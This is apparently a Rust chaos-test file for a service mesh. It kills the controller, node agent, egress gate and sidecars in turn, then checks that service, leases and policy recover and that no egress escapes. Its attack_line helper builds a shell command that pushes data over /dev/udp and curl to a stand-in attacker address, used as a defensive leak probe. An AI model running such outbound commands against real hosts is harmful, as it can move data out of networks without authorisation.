//! Each part is killed with SIGKILL, in turn, while traffic runs and a pod attacks. Leases, policy and
//! service come back, nothing leaks meanwhile, and nothing is left behind.

#![expect(
    clippy::unwrap_used,
    reason = "a test ends where something is not as it should be"
)]

use std::{
    collections::BTreeSet,
    time::{Duration, Instant},
};

use serde_json::Value;
use turnpike_rig::{
    Options, Traces, World,
    capture::Capture,
    cluster,
    daemon::Daemon,
    http,
    traffic::{Sample, Traffic},
    wait_for,
};

const SOON: Duration = Duration::from_secs(10);
/// How long a part stays away: longer than two requests that get no answer.
const AWAY: Duration = Duration::from_millis(4500);
/// As long as a request waits.
const NO_ANSWER: Duration = Duration::from_secs(2);
const WEB: &str = "http://web.shop/";
const PAYMENTS: &str = "https://api.payments.example/";
const ATTACKER: &str = "203.0.113.66";
/// The pod that attacks: selected by an egress policy, without a sidecar to stand in its way.
const ATTACKING: (&str, &str) = ("legacy", "batch");
/// Whom no policy holds back.
const FREE: (&str, &str) = ("legacy", "caller");

/// What is killed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Part {
    Controller,
    Agent,
    Gate,
    /// Of a pod of the namespace `shop`.
    Sidecar(&'static str),
}

/// Takes traces, and runs `tell` on a world with nginx, a client in the mesh, pods that an egress
/// policy selects, and one that none does. When it is down, nothing of it may be left.
fn with_world(name: &str, tell: impl FnOnce(&mut World)) {
    let before = Traces::of(&format!("tpt-{name}"));
    let mut world = World::up(Options::test(name), &|_| ()).unwrap();
    world.furnish().unwrap();
    let policy = include_str!("../rig/cluster/egress.yaml");
    world.directory.write("egress", policy).unwrap();
    for (workload, meshed) in [
        (cluster::nginx("web-1", "web", "node-a", 0), true),
        (cluster::client("shop", "client", "client", "node-b"), true),
        (
            cluster::client(ATTACKING.0, ATTACKING.1, "batch", "node-b"),
            false,
        ),
        (cluster::client(FREE.0, FREE.1, "caller", "node-b"), false),
    ] {
        world.start_pod(&workload, meshed).unwrap();
    }
    let ready = wait_for(SOON, || {
        let served = status(&world, "shop", "client", WEB) == "200";
        (served && status(&world, ATTACKING.0, ATTACKING.1, PAYMENTS) == "200").then_some(())
    });
    assert!(ready.is_some(), "all is served before anything is killed");
    attack(&world, FREE);
    let arrives = wait_for(SOON, || (leaked(&world) > 0).then_some(()));
    assert!(arrives.is_some(), "an attack would be seen if it got out");
    tell(&mut world);
    drop(world);
    let left = before.added_since();
    assert!(left.is_empty(), "left behind: {left:#?}");
}

/// What happened around the death of a part.
struct Told {
    /// When it was about to be killed, when it was dead, and when it was started again.
    dying: Instant,
    killed: Instant,
    back: Instant,
    /// When all was served again.
    recovered: Instant,
    /// A client of the mesh calling nginx, and a selected pod calling an allowed name.
    mesh: Vec<Sample>,
    egress: Vec<Sample>,
}

/// Kills a part for a while, during mesh traffic, egress traffic and attacks, and starts it again.
/// Leases and what the attacker hears are the same afterwards.
fn killed(world: &mut World, part: Part) -> Told {
    let (leases, heard) = (leases(world), leaked(world));
    let capture = Capture::start(world).unwrap();
    assert!(leases.len() >= 4, "{leases:?}");
    let pod = |world: &World, (namespace, name): (&str, &str)| -> Traffic {
        let url = if namespace == "shop" { WEB } else { PAYMENTS };
        let pod = world.pod(namespace, name).unwrap();
        Traffic::start(world, pod, url).unwrap()
    };
    let mesh = pod(world, ("shop", "client"));
    let egress = pod(world, ATTACKING);
    let line = attack_line();
    let attacks = ["bash", "-c", &line];
    let attacks = Traffic::repeat(
        world,
        world.pod(ATTACKING.0, ATTACKING.1).unwrap(),
        &attacks,
    );
    std::thread::sleep(Duration::from_millis(500));
    let dying = Instant::now();
    part.daemon(world).kill().unwrap();
    let killed = Instant::now();
    std::thread::sleep(AWAY);
    let daemon = part.daemon(world);
    let back = Instant::now();
    daemon.restart().unwrap();
    let (address, path) = part.readiness();
    daemon.ready(address.parse().unwrap(), path, SOON).unwrap();
    let recovered = wait_for(SOON, || {
        let served = status(world, "shop", "client", WEB) == "200";
        (served && status(world, ATTACKING.0, ATTACKING.1, PAYMENTS) == "200").then_some(())
    });
    assert!(recovered.is_some(), "{part:?} is back, the service is not");
    let recovered = Instant::now();
    // Whatever began before has its end, and something begins after.
    std::thread::sleep(NO_ANSWER + Duration::from_millis(500));
    let told = Told {
        dying,
        killed,
        back,
        recovered,
        mesh: mesh.stop().unwrap(),
        egress: egress.stop().unwrap(),
    };
    let attacks = attacks.unwrap().stop().unwrap();
    assert!(attacks.len() > 5, "only {} attacks", attacks.len());
    assert_eq!(leaked(world), heard, "something left meanwhile");
    // Nor anything that only the way back was closed to.
    let wire = capture.finish().unwrap();
    let attacker = ATTACKER.parse().unwrap();
    assert!(
        !wire.is_empty() && !wire.reached_for(attacker),
        "a packet left"
    );
    assert_eq!(self::leases(world), leases, "the leases are not as before");
    verified(world);
    told
}

impl Part {
    fn daemon(self, world: &mut World) -> &mut Daemon {
        match self {
            Self::Controller => &mut world.controller,
            Self::Agent => &mut world.node_mut("node-b").unwrap().agent,
            Self::Gate => &mut world.node_mut("node-b").unwrap().gate,
            Self::Sidecar(pod) => {
                let pod = world.pod_mut("shop", pod).unwrap();
                pod.sidecar.as_mut().unwrap()
            }
        }
    }

    fn readiness(self) -> (&'static str, &'static str) {
        match self {
            Self::Controller => ("10.0.0.10:15014", "/healthz/ready"),
            Self::Agent => ("127.0.0.1:61678", "/healthz/ready"),
            Self::Gate => ("127.0.0.1:15022", "/healthz/live"),
            Self::Sidecar(_) => ("127.0.0.1:15021", "/healthz/ready"),
        }
    }
}

impl Told {
    fn never_failed(&self, what: &str, samples: &[Sample]) {
        let failed = samples.iter().filter(|sample| sample.status != 200);
        let failed: Vec<_> = failed
            .map(|sample| {
                let after = |at: Instant| at.saturating_duration_since(self.killed);
                (after(sample.at), after(sample.end), &sample.said)
            })
            .collect();
        let away = self.back - self.killed;
        assert!(
            failed.is_empty(),
            "{what}: of {} requests failed, from, to and status after the kill: {failed:?}; it was \
             started again after {away:?}",
            samples.len()
        );
        assert!(
            samples.len() > 10,
            "{what}: only {} requests",
            samples.len()
        );
    }

    /// Nothing that was asked while the part was away was served.
    fn was_refused_meanwhile(&self, what: &str, samples: &[Sample]) {
        let meanwhile = samples
            .iter()
            .filter(|sample| sample.at > self.killed && sample.end < self.back);
        let meanwhile: Vec<_> = meanwhile.map(|sample| sample.status).collect();
        assert!(!meanwhile.is_empty(), "{what}: nothing was asked meanwhile");
        assert!(
            !meanwhile.contains(&200),
            "{what} was served meanwhile: {meanwhile:?}"
        );
    }

    /// What ended before the kill was served, and so is what began when it had come back.
    fn was_served_around(&self, what: &str, samples: &[Sample]) {
        let bad = |sample: &&Sample| sample.status != 200;
        let before = samples.iter().filter(|sample| sample.end < self.dying);
        let failed: Vec<_> = before.filter(bad).collect();
        assert!(failed.is_empty(), "{what} failed before: {failed:?}");
        let after = samples.iter().filter(|sample| sample.at > self.recovered);
        assert!(after.clone().count() > 0, "{what}: nothing was asked after");
        let failed: Vec<_> = after.filter(bad).collect();
        assert!(failed.is_empty(), "{what} fails afterwards: {failed:?}");
    }
}

fn status(world: &World, namespace: &str, pod: &str, url: &str) -> String {
    let line = [
        "curl",
        "-sk",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "--max-time",
        "2",
        url,
    ];
    world
        .exec(namespace, pod, &line)
        .map(|said| said.out)
        .unwrap_or_default()
}

fn attack(world: &World, (namespace, pod): (&str, &str)) {
    let _ = world.exec(namespace, pod, &["bash", "-c", &attack_line()]);
}

/// By TCP and by UDP, to the address.
fn attack_line() -> String {
    format!("echo x > /dev/udp/{ATTACKER}/443; curl -sk --max-time 0.5 https://{ATTACKER}/x")
}

/// How often anything reached the attacker.
fn leaked(world: &World) -> usize {
    let log = std::fs::read_to_string(&world.ready.internet_log).unwrap_or_default();
    log.lines().filter(|line| line.contains(ATTACKER)).count()
}

/// Who has which address on the node, as its agent says.
fn leases(world: &World) -> BTreeSet<String> {
    let mut leases = BTreeSet::new();
    for node in &world.nodes {
        let address = "127.0.0.1:61679".parse().unwrap();
        let answer = http::get(&node.namespace, address, "/v1/pods").unwrap();
        let pods: Value = serde_json::from_str(&answer.body).unwrap();
        let pods = pods.as_array().or(pods["pods"].as_array()).cloned();
        let text = |pod: Value| format!("{} {} {}", pod["namespace"], pod["name"], pod["address"]);
        leases.extend(pods.unwrap().into_iter().map(text));
    }
    leases
}

/// The record holds: nothing of it was lost or changed.
fn verified(world: &World) {
    let reports = || -> Vec<Value> {
        let body = world.ask_audit("/v1/verify").map(|answer| answer.body);
        serde_json::from_str(&body.unwrap_or_default()).unwrap_or_default()
    };
    let holds = |report: &Value| report["problems"].as_array().is_some_and(Vec::is_empty);
    let good = wait_for(SOON, || {
        let reports = reports();
        (!reports.is_empty() && reports.iter().all(holds)).then_some(())
    });
    assert!(good.is_some(), "the record does not hold: {:#?}", reports());
}

#[test]
fn the_mesh_serves_without_its_controller() {
    with_world("controller", |world| {
        let strict = include_str!("../rig/cluster/strict.yaml");
        let direct = format!(
            "http://{}:8080/",
            world.pod("shop", "web-1").unwrap().address
        );
        world.directory.write("strict", strict).unwrap();
        let refused =
            |world: &World| (status(world, FREE.0, FREE.1, &direct) != "200").then_some(());
        assert!(wait_for(SOON, || refused(world)).is_some());

        let told = killed(world, Part::Controller);
        told.never_failed("the mesh", &told.mesh);
        told.never_failed("egress", &told.egress);
        assert!(
            refused(world).is_some(),
            "STRICT from before does not hold after the restart"
        );
        // Policy flows again, and what is born is told all of it.
        world.directory.remove("strict").unwrap();
        let passes = wait_for(SOON, || refused(world).is_none().then_some(()));
        assert!(passes.is_some(), "a policy taken away stays in force");
        let late = cluster::client("shop", "late", "client", "node-b");
        world.start_pod(&late, true).unwrap();
        let served = wait_for(SOON, || {
            (status(world, "shop", "late", WEB) == "200").then_some(())
        });
        assert!(served.is_some(), "a pod born after the restart is served");
    });
}

#[test]
fn leases_survive_the_agent() {
    with_world("agent", |world| {
        let told = killed(world, Part::Agent);
        told.never_failed("the mesh", &told.mesh);
        told.never_failed("egress", &told.egress);

        let taken: BTreeSet<_> = world.pods.values().map(|pod| pod.address).collect();
        let late = cluster::client("shop", "late", "client", "node-b");
        let next = world.start_pod(&late, true).unwrap().address;
        assert!(
            !taken.contains(&next),
            "an address in use was handed out again"
        );
        world.delete_pod("shop", "client").unwrap();
        let served = wait_for(SOON, || {
            (status(world, "shop", "late", WEB) == "200").then_some(())
        });
        assert!(served.is_some(), "a pod born after the restart is served");
    });
}

#[test]
fn no_gate_no_door() {
    with_world("gate", |world| {
        let told = killed(world, Part::Gate);
        told.never_failed("the mesh", &told.mesh);
        told.was_refused_meanwhile("egress", &told.egress);
        told.was_served_around("egress", &told.egress);
    });
}

#[test]
fn a_dead_sidecar_blocks_and_never_bypasses() {
    with_world("sidecar", |world| {
        // The callee's, then the caller's.
        for pod in ["web-1", "client"] {
            let told = killed(world, Part::Sidecar(pod));
            told.never_failed("egress", &told.egress);
            told.was_refused_meanwhile("the mesh", &told.mesh);
            told.was_served_around("the mesh", &told.mesh);
        }
        // Nor is it bypassed by a plaintext caller, which it would let pass.
        let pod = world.pod_mut("shop", "web-1").unwrap();
        let direct = format!("http://{}:8080/", pod.address);
        let mut sidecar = pod.sidecar.take().unwrap();
        assert_eq!(status(world, FREE.0, FREE.1, &direct), "200");
        sidecar.kill().unwrap();
        assert_eq!(status(world, FREE.0, FREE.1, &direct), "000");
    });
}
